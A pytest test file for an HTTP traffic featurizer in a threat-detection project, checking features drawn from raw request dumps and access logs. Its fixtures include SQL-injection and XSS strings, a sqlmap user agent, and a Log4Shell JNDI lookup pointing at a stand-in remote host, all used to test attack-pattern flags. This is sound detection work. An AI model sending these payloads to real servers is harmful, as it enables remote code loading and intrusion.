"""Featurizing raw HTTP traffic: request dumps and access logs written here, feature values checked."""

from __future__ import annotations

import gzip
import math
import subprocess
import sys
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from conftest import ROOT
from threat_ensemble.data.tables import load_labelled_table
from threat_ensemble.errors import InputError
from threat_ensemble.http.features import (
    FEATURE_COLUMNS,
    FEATURES,
    TEXT_COLUMNS,
    FeaturizeWarning,
    detect_format,
    featurize_file,
    featurize_text,
)

GET_LINE = "GET http://localhost:8080/a/b/c.php?id=2&name=caf%C3%A9&x=%2527 HTTP/1.1"
UA = "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)"
FORM = "id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito"
ATTACK_FORM = "modo=entrar&login=admin%27+OR+%271%27%3D%271&pwd=x&B1=Entrar"


def raw_request(request_line: str, headers: list[str], body: str = "", eol: str = "\n") -> str:
    """One CSIC-style request; Content-Length is added for a body."""
    if body:
        headers = [*headers, f"Content-Length: {len(body.encode('latin-1'))}"]
    return eol.join([request_line, *headers, "", body, ""]) + eol


def csic_pair(eol_get: str = "\n", eol_post: str = "\n") -> str:
    get = raw_request(
        GET_LINE,
        [
            f"User-Agent: {UA}",
            "Pragma: no-cache",
            "Host: localhost:8080",
            "Cookie: JSESSIONID=81761ACA",
            "Connection: close",
        ],
        eol=eol_get,
    )
    post = raw_request(
        "POST http://localhost:8080/tienda1/publico/anadir.jsp HTTP/1.1",
        [f"User-Agent: {UA}", "Content-Type: application/x-www-form-urlencoded", "Connection: close"],
        FORM,
        eol=eol_post,
    )
    return get + post


def _quiet(text: str | bytes, fmt: str = "auto") -> pd.DataFrame:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a clean input must not warn
        return featurize_text(text, fmt)


# ----------------------------------------------------------------------------- raw dumps
def test_raw_dump_values() -> None:
    frame = _quiet(csic_pair())
    assert list(frame.columns) == FEATURE_COLUMNS
    get, post = frame.iloc[0], frame.iloc[1]
    assert get["method"] == "GET" and post["method"] == "POST"
    assert get["path_depth"] == 3 and get["path_length"] == len("/a/b/c.php")
    assert get["file_extension"] == "php" and post["file_extension"] == "jsp"
    assert get["query_length"] == len("id=2&name=caf%C3%A9&x=%2527")
    assert get["query_param_count"] == 3
    assert get["pct_encoded_chars"] == 3  # %C3 %A9 %25
    assert get["double_encoded"] == 1  # %2527
    assert get["header_count"] == 5 and post["header_count"] == 4
    assert get["ua_length"] == len(UA) and get["is_known_bot"] == 0
    assert get["body_length"] == 0 and get["body_entropy"] == 0
    assert post["body_length"] == len(FORM) == 68
    assert post["body_param_count"] == 5 and post["body_pct_encoded"] == 1
    assert post["body_attack_pattern"] == 0 and get["attack_pattern"] == 0
    # decoded body: "+" are spaces, %F1 one latin-1 letter outside A-Z
    decoded = "id=3&nombre=Vino Rioja&precio=100&cantidad=55&B1=A\xf1adir al carrito"
    assert post["body_space_ratio"] == pytest.approx(3 / len(decoded))
    assert post["body_digit_ratio"] == pytest.approx(sum(c.isdigit() for c in decoded) / len(decoded))
    for name in ("status_code", "response_size", "hour", "is_private_ip", "req_count_1m", "iat_mean"):
        assert (frame[name] == -1).all(), name  # raw dumps record no response, time or client


def test_entropy_and_special_chars() -> None:
    frame = _quiet(raw_request("GET /aabb HTTP/1.1", ["Host: x"]) + raw_request("GET /x?q=%27%3C HTTP/1.1", []))
    assert frame["path_entropy"].iloc[0] == pytest.approx(-(0.2 * math.log2(0.2) + 2 * 0.4 * math.log2(0.4)))
    # decoded "/x?q='<": ' and < are special, / ? = are not
    assert frame["special_char_ratio"].iloc[1] == pytest.approx(2 / 7)
    assert frame["query_symbol_ratio"].iloc[1] == pytest.approx(3 / 4)  # "q='<" -> = ' <


def test_mixed_line_endings_give_the_same_features() -> None:
    lf = _quiet(csic_pair())
    mixed = csic_pair(eol_get="\r\n", eol_post="\n").replace("Pragma: no-cache\r\n", "Pragma: no-cache\n")
    assert "\r\n" in mixed and "e\n" in mixed
    pd.testing.assert_frame_equal(_quiet(mixed), lf)
    pd.testing.assert_frame_equal(_quiet(csic_pair("\r\n", "\r\n")), lf)


def test_body_only_attack_sets_only_the_body_flag() -> None:
    text = csic_pair() + raw_request(
        "POST http://localhost:8080/tienda1/publico/autenticar.jsp HTTP/1.1",
        ["Content-Type: application/x-www-form-urlencoded"],
        ATTACK_FORM,
    )
    frame = _quiet(text)
    assert frame["body_attack_pattern"].tolist() == [0, 0, 1]
    assert frame["attack_pattern"].tolist() == [0, 0, 0]
    assert frame["header_attack_pattern"].tolist() == [0, 0, 0]
    assert frame["body_pct_encoded"].iloc[2] == 5


def test_attack_in_query_and_header() -> None:
    text = raw_request("GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", ["Host: x"]) + raw_request(
        "GET /s?q=tents HTTP/1.1", ["User-Agent: ${jndi:ldap://203.0.113.5/a}", "Referer: http://localhost/x"]
    )
    frame = _quiet(text)
    assert frame["attack_pattern"].tolist() == [1, 0]
    assert frame["header_attack_pattern"].tolist() == [0, 1]


def test_non_utf8_bytes_are_tolerated() -> None:
    data = (
        b"GET /caf\xe9/men\xfc.html?q=\xff\xfe HTTP/1.1\r\nUser-Agent: Mozilla\xff\xfe\r\n\r\n"
        b"POST /p HTTP/1.1\nContent-Length: 5\n\na=\x80\x00b\n"
    )
    frame = _quiet(data)
    assert len(frame) == 2
    assert frame["ua_length"].iloc[0] == 9  # one character per byte
    assert frame["path_length"].iloc[0] == len("/caf\xe9/men\xfc.html")
    assert frame["file_extension"].iloc[0] == "html"
    assert frame["body_length"].iloc[1] == 5 and frame["body_nonprintable"].iloc[1] == 1


def test_truncated_last_request_is_kept_and_reported() -> None:
    text = csic_pair() + "POST http://localhost:8080/x.jsp HTTP/1.1\nContent-Length: 40\n\nid=3&nombre=Vi"
    with pytest.warns(FeaturizeWarning, match="1 request.* shorter than its Content-Length"):
        frame = featurize_text(text)
    assert len(frame) == 3
    assert frame["body_length"].iloc[2] == len("id=3&nombre=Vi")
    assert frame["body_param_count"].iloc[2] == 2


def test_request_cut_inside_its_headers_is_kept_without_warning() -> None:
    frame = _quiet(csic_pair() + "GET http://localhost:8080/tienda1/index.jsp HTTP/1.1\nUser-Agent: Moz")
    assert len(frame) == 3 and frame["ua_length"].iloc[2] == 3


def test_cut_request_line_is_skipped() -> None:
    with pytest.warns(FeaturizeWarning, match="skipped 1 malformed"):
        frame = featurize_text(csic_pair() + "GET http://localhost:8080/tie")
    assert len(frame) == 2


def test_malformed_request_inside_a_good_file_is_skipped_and_counted() -> None:
    broken = "GET /no-protocol-version\nHost: x\n\n"
    text = csic_pair() + broken + raw_request("GET /last.html HTTP/1.1", ["Host: x"])
    with pytest.warns(FeaturizeWarning, match=r"skipped 1 malformed request\(s\).*\(3 read\)"):
        frame = featurize_text(text)
    assert frame["path_length"].tolist()[-1] == len("/last.html")
    assert len(frame) == 3


def test_body_without_content_length_runs_to_the_next_request() -> None:
    text = "POST /p HTTP/1.1\nHost: x\n\na=1&b=2\n\nGET /q HTTP/1.1\nHost: x\n\n"
    frame = _quiet(text)
    assert frame["body_length"].tolist() == [7, 0] and frame["body_param_count"].tolist() == [2, 0]


# ----------------------------------------------------------------------------- access logs
COMMON = (
    '192.168.1.20 - - [10/Oct/2025:13:55:36 -0700] "GET /a/b/c.php?x=1&y=%3Cb%3E HTTP/1.1" 200 2326\n'
    '203.0.113.9 - frank [11/Oct/2025:23:05:00 +0000] "POST /login HTTP/1.0" 401 -\n'
)
COMBINED = (
    '66.249.66.1 - - [10/Oct/2025:13:55:36 +0000] "GET /robots.txt HTTP/1.1" 200 120 "-" '
    '"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"\n'
    '198.51.100.7 - - [10/Oct/2025:13:55:37 +0000] "GET /item?id=1%27%20OR%201=1-- HTTP/1.1" 500 310 '
    '"-" "sqlmap/1.8.2#stable (https://sqlmap.org)"\n'
    '198.51.100.8 - - [10/Oct/2025:13:55:38 +0000] "GET / HTTP/1.1" 200 5120 "http://x/?a=<script>" '
    '"${jndi:ldap://203.0.113.5/a}"\n'
    '10.1.2.3 - - [10/Oct/2025:13:55:39 +0000] "GET /q HTTP/1.1" 200 1 "-" "say \\"hi\\""\n'
    '198.51.100.9 - - [10/Oct/2025:13:55:40 +0000] "-" 400 0 "-" "-"\n'
)


def test_common_log_values() -> None:
    assert detect_format(COMMON, "x") == "common"
    frame = _quiet(COMMON)
    assert frame["method"].tolist() == ["GET", "POST"]
    assert frame["status_code"].tolist() == [200, 401] and frame["status_class"].tolist() == [2, 4]
    assert frame["response_size"].tolist() == [2326, 0]
    assert frame["hour"].tolist() == [13, 23]  # the log's local time
    assert frame["weekday"].tolist() == [4, 5] and frame["is_weekend"].tolist() == [0, 1]
    assert frame["is_private_ip"].tolist() == [1, 0]
    assert frame["path_depth"].tolist() == [3, 1] and frame["query_param_count"].tolist() == [2, 0]
    assert frame["pct_encoded_chars"].tolist() == [2, 0]
    for name in (
        "ua_length",
        "is_known_bot",
        "header_attack_pattern",
        "header_count",
        "body_length",
        "distinct_ua_10m",
    ):
        assert (frame[name] == -1).all(), name  # common logs record no agent, headers or body


def test_combined_log_values() -> None:
    assert detect_format(COMBINED, "x") == "combined"
    frame = _quiet(COMBINED)
    assert frame["is_known_bot"].tolist() == [1, 1, 0, 0, 0]
    assert frame["is_scanner_agent"].tolist() == [0, 1, 0, 0, 0]
    assert frame["attack_pattern"].tolist() == [0, 1, 0, 0, 0]
    assert frame["header_attack_pattern"].tolist() == [0, 0, 1, 0, 0]
    assert frame["ua_length"].tolist()[3:] == [len('say "hi"'), 0]  # escapes undone; "-" is no agent
    assert frame["method"].tolist()[4] == "OTHER" and frame["path_length"].tolist()[4] == 0
    assert frame["file_extension"].tolist()[:2] == ["txt", "none"]
    assert (frame["body_length"] == -1).all() and (frame["header_count"] == -1).all()


def test_format_override() -> None:
    frame = _quiet(COMBINED, "common")  # read as common: the agent is not looked at
    assert (frame["ua_length"] == -1).all() and frame["status_code"].tolist()[0] == 200
    with pytest.raises(InputError, match="no combined log line found"):
        featurize_text(COMMON, "combined")
    with pytest.raises(InputError, match="no common log line found"):
        featurize_text(csic_pair(), "common")


def test_malformed_log_line_is_skipped_and_counted() -> None:
    text = COMMON + "this is not a log line\n" + COMMON.splitlines()[0] + "\n"
    with pytest.warns(FeaturizeWarning, match=r"skipped 1 malformed request\(s\) \(3 read\)"):
        frame = featurize_text(text)
    assert len(frame) == 3


def _log_line(client: str, t: float, path: str, status: int, ua: str) -> str:
    stamp = (pd.Timestamp("2025-10-10 12:00:00") + pd.Timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S")
    return f'{client} - - [{stamp} +0000] "GET {path} HTTP/1.1" {status} 10 "-" "{ua}"'


def test_windowed_features_for_a_client_with_known_timestamps() -> None:
    visits = [
        (0, "/a", 200, "A"),
        (30, "/a", 404, "A"),
        (90, "/b", 200, "A"),
        (400, "/c", 500, "B"),
        (700, "/a", 200, "A"),
    ]
    lines = [_log_line("10.0.0.1", t, p, s, u) for t, p, s, u in visits]
    lines.insert(1, _log_line("10.0.0.2", 10, "/z", 404, "C"))  # another client changes nothing
    order = [5, 2, 0, 4, 1, 3]  # the file need not be in time order
    frame = _quiet("\n".join(lines[i] for i in order) + "\n")
    frame = frame.assign(line=order).sort_values("line")
    mine = frame[frame["line"] != 1]
    assert mine["req_count_1m"].tolist() == [1, 2, 1, 1, 1]  # windows are (t - w, t]
    assert mine["req_count_5m"].tolist() == [1, 2, 3, 1, 1]
    assert mine["req_count_10m"].tolist() == [1, 2, 3, 4, 2]
    assert mine["error_rate_5m"].tolist() == pytest.approx([0, 1 / 2, 1 / 3, 1, 0])
    assert mine["distinct_paths_5m"].tolist() == [1, 1, 2, 1, 1]
    assert mine["distinct_ua_10m"].tolist() == [1, 1, 1, 2, 2]
    assert mine["iat_mean"].tolist() == pytest.approx([-1, 30, 45, 400 / 3, 300])
    assert mine["iat_std"].tolist() == pytest.approx([-1, 0, 15, np.std([30, 60, 310]), 0])
    other = frame[frame["line"] == 1].iloc[0]
    assert (other["req_count_10m"], other["error_rate_5m"], other["iat_mean"]) == (1, 1.0, -1.0)


def test_windowed_features_match_a_direct_count() -> None:
    rng = np.random.default_rng(5)
    n = 300
    clients = rng.choice(["10.0.0.1", "10.0.0.2", "8.8.8.8", "1.1.1.1"], n)
    times = np.sort(rng.integers(0, 1800, n))  # ties in the same second included
    paths = rng.choice(["/a", "/b", "/c", "/d", "/e"], n)
    status = rng.choice([200, 404, 500], n)
    uas = rng.choice(["u1", "u2", "u3"], n)
    text = "\n".join(_log_line(*row) for row in zip(clients, times, paths, status, uas, strict=True))
    frame = _quiet(text)
    for i in range(n):
        same = clients == clients[i]
        for name, w in (("1m", 60), ("5m", 300), ("10m", 600)):
            win = same & (times > times[i] - w) & (times <= times[i])
            assert frame[f"req_count_{name}"].iloc[i] == win.sum()
        win5 = same & (times > times[i] - 300) & (times <= times[i])
        win10 = same & (times > times[i] - 600) & (times <= times[i])
        assert frame["error_rate_5m"].iloc[i] == pytest.approx((status[win5] >= 400).mean())
        assert frame["distinct_paths_5m"].iloc[i] == len(set(paths[win5]))
        assert frame["distinct_ua_10m"].iloc[i] == len(set(uas[win10]))
        gaps = np.diff(np.sort(times[win10]))
        expected = (gaps.mean(), gaps.std()) if len(gaps) else (-1.0, -1.0)
        assert (frame["iat_mean"].iloc[i], frame["iat_std"].iloc[i]) == pytest.approx(expected)


# ----------------------------------------------------------------------------- files and errors
def test_files_in_no_known_format_or_without_requests_are_refused(tmp_path: Path) -> None:
    cases = {
        "empty.txt": b"",
        "blank.log": b"\n\r\n  \n",
        "prose.txt": b"hello world\nthis is not traffic\n",
        "table.csv": b"a,b,c\n1,2,3\n",
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(InputError) as info:
            featurize_file(path)
        message = str(info.value)
        assert message.startswith(str(path)) and "\n" not in message
        assert ("no HTTP request" in message) if name in ("empty.txt", "blank.log") else ("not a raw HTTP" in message)
    with pytest.raises(InputError, match="no such file"):
        featurize_file(tmp_path / "missing.log")


def test_gzip_and_bom_are_read(tmp_path: Path) -> None:
    path = tmp_path / "access.log.1.gz"
    path.write_bytes(gzip.compress(b"\xef\xbb\xbf" + COMMON.encode()))
    pd.testing.assert_frame_equal(featurize_file(path), _quiet(COMMON))


def test_columns_and_dtypes_are_stable_across_formats() -> None:
    frames = [_quiet(csic_pair()), _quiet(COMMON), _quiet(COMBINED)]
    assert set(FEATURES) == set(FEATURE_COLUMNS)
    for frame in frames:
        assert list(frame.columns) == FEATURE_COLUMNS
        for name in FEATURE_COLUMNS:
            if name in TEXT_COLUMNS:
                assert not pd.api.types.is_numeric_dtype(frame[name]), name
            else:
                assert pd.api.types.is_numeric_dtype(frame[name]), name
        assert np.isfinite(frame.drop(columns=list(TEXT_COLUMNS)).to_numpy(dtype=float)).all()
    for name in FEATURE_COLUMNS:
        assert len({str(f[name].dtype) for f in frames}) == 1, name


def test_generated_traffic_is_seeded_and_featurized() -> None:
    from default_traffic import generate_default_traffic, generate_traffic_text  # datasets/

    frame = generate_default_traffic(600, seed=3, with_family=True)
    again = generate_default_traffic(600, seed=3, with_family=True)
    pd.testing.assert_frame_equal(frame, again)
    assert list(frame.columns) == [*FEATURE_COLUMNS, "label", "family"] and len(frame) == 600
    assert set(frame["label"]) == {0, 1}
    assert ((frame["family"] == "normal") == (frame["label"] == 0)).all()
    assert (frame["header_count"] >= 0).any() and (frame["header_count"] == -1).any()  # both formats
    text = generate_traffic_text(300, seed=4)
    assert detect_format(str(text["raw"]), "raw") == "raw" and detect_format(str(text["log"]), "log") == "combined"


# ----------------------------------------------------------------------------- the command line
def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """featurize.py's main run in this process (tests/in_process.py: no interpreter start)."""
    from in_process import run_main
    from threat_ensemble.cli.featurize import main

    return run_main(main, cwd, *args)


def _script(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """scripts/featurize.py in its own process, as a user runs it."""
    cmd = [sys.executable, str(ROOT / "scripts" / "featurize.py"), *args]
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=120)


def test_cli_round_trip_to_a_training_table(tmp_path: Path) -> None:
    (tmp_path / "normal.txt").write_text(csic_pair() * 3, encoding="latin-1")
    (tmp_path / "attack.log").write_text(COMBINED, encoding="latin-1")
    proc = _script("--normal", "normal.txt", "--attack", "attack.log", "--output", "features.parquet", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "6 normal, 5 attack" in proc.stdout
    assert sorted(p.name for p in tmp_path.iterdir()) == ["attack.log", "features.parquet", "normal.txt"]
    table = load_labelled_table(tmp_path / "features.parquet")
    assert table.n_normal == 6 and table.n_attack == 5
    assert list(table.features.columns) == FEATURE_COLUMNS
    assert table.features["path_depth"].tolist()[:2] == [3, 3]

    proc = _cli("--input", "attack.log", "--output", "score.csv", "--format", "combined", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    scored = pd.read_csv(tmp_path / "score.csv")
    assert list(scored.columns) == FEATURE_COLUMNS and len(scored) == 5


def test_cli_input_errors_exit_2_with_one_line(tmp_path: Path) -> None:
    (tmp_path / "good.log").write_text(COMMON)
    (tmp_path / "empty.log").write_text("")
    (tmp_path / "prose.txt").write_text("dear diary\n")
    (tmp_path / "out.parquet").write_bytes(b"previous")
    for bad in ("empty.log", "prose.txt", "missing.log"):
        proc = _cli("--normal", "good.log", "--attack", bad, "--output", "out.parquet", cwd=tmp_path)
        assert proc.returncode == 2, proc.stderr
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"error: {bad}:"), proc.stderr
        assert (tmp_path / "out.parquet").read_bytes() == b"previous"  # untouched on failure
    proc = _cli("--normal", "good.log", "--input", "good.log", "--output", "out.parquet", cwd=tmp_path)
    assert proc.returncode == 2 and proc.stderr.startswith("error: --input")
    proc = _cli("--normal", "good.log", "--output", "out.xlsx", cwd=tmp_path)
    assert proc.returncode == 2 and "unknown output extension" in proc.stderr
    proc = _cli("--normal", "good.log", "--output", "out.csv", "--format", "bogus", cwd=tmp_path)
    assert proc.returncode == 2 and proc.stderr.strip().splitlines() == [
        "error: argument --format: invalid choice: 'bogus' (choose from 'auto', 'raw', 'common', 'combined') "
        "(see --help)"
    ], proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.log", "good.log", "out.parquet", "prose.txt"]


def test_cli_warns_about_skipped_requests(tmp_path: Path) -> None:
    (tmp_path / "dump.txt").write_text(csic_pair() + "GET /broken\n\n" + csic_pair())
    proc = _cli("--normal", "dump.txt", "--output", "f.csv", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.strip() == "warning: dump.txt: skipped 1 malformed request(s) (4 read)"
    assert len(pd.read_csv(tmp_path / "f.csv")) == 4


def test_cli_help_loads_no_heavy_module() -> None:
    code = (
        "import sys\nfrom threat_ensemble.cli.featurize import main\n"
        "try:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
        "print(sorted(m for m in ('torch', 'lightning', 'mlflow') if m in sys.modules))"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    assert "--attack" in proc.stdout and proc.stdout.strip().endswith("[]")


def test_cli_help_points_to_a_section_that_exists() -> None:
    """--help sent readers to README.md's section 'Features', which the README does not have."""
    import re

    from threat_ensemble.cli.featurize import build_parser

    text = " ".join(build_parser().format_help().split())
    pointers = re.findall(r"([\w/]+\.md), section '([^']+)'", text)
    assert pointers, text
    for doc, section in pointers:
        headings = [line.lstrip("#").strip() for line in (ROOT / doc).read_text().splitlines() if line.startswith("#")]
        assert section in headings, (doc, section)


def test_absurd_sizes_skip_one_line_not_the_file(tmp_path: Path) -> None:
    line = '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 2326\n'
    huge = '1.2.3.4 - - [10/Oct/2000:13:55:37 -0700] "GET /b HTTP/1.0" 200 ' + "9" * 30 + "\n"
    (tmp_path / "access.log").write_text(line * 5 + huge + line * 5)
    proc = _cli("--input", "access.log", "--output", "f.csv", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.strip() == "warning: access.log: skipped 1 malformed request(s) (10 read)"
    raw = (
        "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: "
        + "9" * 5000
        + "\r\n\r\nabc\r\n\r\nGET /y HTTP/1.1\r\nHost: a\r\n\r\n"
    )
    (tmp_path / "dump.txt").write_text(raw)
    proc = _cli("--input", "dump.txt", "--output", "g.csv", cwd=tmp_path)
    assert proc.returncode == 0 and "kept 1 request(s) whose body is shorter than its Content-Length" in proc.stderr
    assert len(pd.read_csv(tmp_path / "g.csv")) == 2


def test_a_symlink_loop_and_an_empty_label_column_are_one_line(tmp_path: Path) -> None:
    (tmp_path / "loop.log").symlink_to(tmp_path / "loop.log")
    proc = _cli("--input", "loop.log", "--output", "f.csv", cwd=tmp_path)
    assert (
        proc.returncode == 2
        and proc.stderr.strip() == "error: loop.log: cannot be read (Too many levels of symbolic links)"
    )
    (tmp_path / "good.log").write_text('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 1\n')
    proc = _cli("--normal", "good.log", "--output", "f.csv", "--label-column", "", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.strip() == "error: --label-column: empty; give the name of the label column (default: label)"


def test_id_columns_lead_each_row_back_to_its_request(tmp_path: Path) -> None:
    path = tmp_path / "access.log"
    path.write_text(COMMON)
    frame = featurize_file(path, ids=("source", "record", "request"))
    assert list(frame.columns[:3]) == ["source", "record", "request"]
    assert frame["source"].tolist() == [str(path)] * 2
    assert frame["record"].tolist() == [1, 2]
    assert frame["request"].tolist() == ["GET /a/b/c.php?x=1&y=%3Cb%3E", "POST /login"]
    pd.testing.assert_frame_equal(frame.iloc[:, 3:], _quiet(COMMON))  # the features are unchanged
    with pytest.raises(InputError, match="unknown"):
        featurize_file(path, ids=("line",))


# ----------------------------------------------------------------------------- windows across files
def test_windows_run_across_rotated_files(tmp_path: Path) -> None:
    """Two rotated files of one server featurize like the one file they were cut from; per file,
    the clients active across the cut lose their earlier requests."""
    from rotated_logs import STRADDLER, write_rotated_logs
    from threat_ensemble.http.features import WINDOW_COLUMNS, featurize_files

    first, second = write_rotated_logs(tmp_path)
    whole = tmp_path / "access.log"
    whole.write_bytes(first.read_bytes() + gzip.decompress(second.read_bytes()))
    with pytest.warns(FeaturizeWarning, match="skipped 1 malformed"):
        one = featurize_file(whole)
        stream = pd.concat(featurize_files([first, second], window_scope="stream"), ignore_index=True)
        per_file = pd.concat(featurize_files([first, second], window_scope="file"), ignore_index=True)
    pd.testing.assert_frame_equal(stream, one)
    n_first = len(featurize_files([first], window_scope="file")[0])
    later = stream.index >= n_first
    assert (stream.loc[later, "req_count_10m"] > per_file.loc[later, "req_count_10m"]).any()
    assert stream.loc[~later, WINDOW_COLUMNS].equals(per_file.loc[~later, WINDOW_COLUMNS])
    # the straddling client's first request after the cut counts its 15 requests of the last 5 minutes
    clients = pd.Series(gzip.decompress(second.read_bytes()).decode("latin-1").splitlines()).str.split(" ").str[0]
    first_after = n_first + int(np.flatnonzero(clients.to_numpy() == STRADDLER)[0])
    assert stream.loc[first_after, "req_count_5m"] == 15 and per_file.loc[first_after, "req_count_5m"] == 1


def test_cli_window_scope(tmp_path: Path) -> None:
    from in_process import run_main
    from rotated_logs import write_rotated_logs
    from threat_ensemble.cli.featurize import main

    write_rotated_logs(tmp_path)
    logs = ("access.log.1", "access.log.2.gz")
    assert run_main(main, tmp_path, "--input", *logs, "--output", "s.parquet", "--quiet").returncode == 0
    done = run_main(main, tmp_path, "--input", *logs, "--output", "f.parquet", "--window-scope", "file", "--quiet")
    assert done.returncode == 0
    stream, per_file = pd.read_parquet(tmp_path / "s.parquet"), pd.read_parquet(tmp_path / "f.parquet")
    assert (stream["req_count_10m"] >= per_file["req_count_10m"]).all()
    assert (stream["req_count_10m"] > per_file["req_count_10m"]).any()
    bad = run_main(main, tmp_path, "--input", *logs, "--output", "x.parquet", "--window-scope", "day")
    assert bad.returncode == 2 and "--window-scope" in bad.stderr


# ----------------------------------------------------------------------------- line endings, long lines, times
@pytest.mark.parametrize("eol", ["\r", "\r\n", "mixed"])
def test_every_line_ending_ends_a_line_and_a_dropped_line_is_counted(tmp_path: Path, eol: str) -> None:
    """A lone CR ends a line as LF and CRLF do (a CR-only log was read as one line: 1 row of 300, no
    warning); a line that does not parse between them is counted."""
    from in_process import run_main
    from threat_ensemble.cli.featurize import main

    lines = [_log_line(f"10.0.0.{i % 7}", i, f"/p{i}", 200, "ua") for i in range(300)]
    ends = ["\r", "\r\n", "\n"] if eol == "mixed" else [eol]
    text = "".join(line + ends[i % len(ends)] for i, line in enumerate(lines))
    assert len(_quiet(text)) == 300 and len(_quiet(text, "combined")) == 300
    (tmp_path / "access.log").write_bytes(text.encode())
    proc = run_main(main, tmp_path, "--input", "access.log", "--output", "f.csv")
    assert proc.returncode == 0 and "300 unlabelled rows" in proc.stdout and proc.stderr == "", proc.stderr
    broken = text.replace(lines[150] + ends[150 % len(ends)], lines[150] + ends[0] + "not a log line" + ends[0])
    with pytest.warns(FeaturizeWarning, match=r"skipped 1 malformed request\(s\) \(300 read\)"):
        assert len(featurize_text(broken)) == 300


def test_a_first_line_longer_than_the_detection_read_is_named_as_such(tmp_path: Path) -> None:
    from threat_ensemble.http.features import DETECT_BYTES

    text = "x" * (DETECT_BYTES + 10) + "\n" + COMMON
    with pytest.raises(InputError) as caught:
        detect_format(text, "big.log")
    assert str(caught.value) == (
        "big.log: its first line is longer than the 1,048,576 characters read to tell its format (no line ending "
        f"in them); a request line or an access-log line is far shorter (first characters: {'x' * 60!r})"
    )
    with pytest.warns(FeaturizeWarning, match=r"skipped 1 malformed request\(s\) \(2 read\)"):
        assert len(featurize_text(text, "common")) == 2  # told the format: the long line is one malformed line
    assert detect_format("\n" * 10 + COMMON + "x" * DETECT_BYTES, "ok.log") == "common"  # a long line later is fine


def test_time_zone_offsets_beyond_any_zone_make_a_line_malformed() -> None:
    good = ["+0000", "-1200", "+1400", "+05:30", "-0345"]
    bad = ["+9999", "+1500", "+0060", "-2400", "+0000 junk", "+00"]
    line = '10.0.0.1 - - [10/Oct/2025:13:55:{:02d} {}] "GET /{} HTTP/1.1" 200 1\n'
    text = "".join(line.format(i, zone, i) for i, zone in enumerate(good + bad))
    text += '10.0.0.1 - - [10/Oct/2025:13:55:59] "GET /none HTTP/1.1" 200 1\n'  # no offset, as some servers write
    with pytest.warns(FeaturizeWarning, match=rf"skipped {len(bad)} malformed request\(s\) \({len(good) + 1} read\)"):
        frame = featurize_text(text)
    assert frame["path_length"].tolist() == [2] * len(good) + [5] and (frame["hour"] == 13).all()
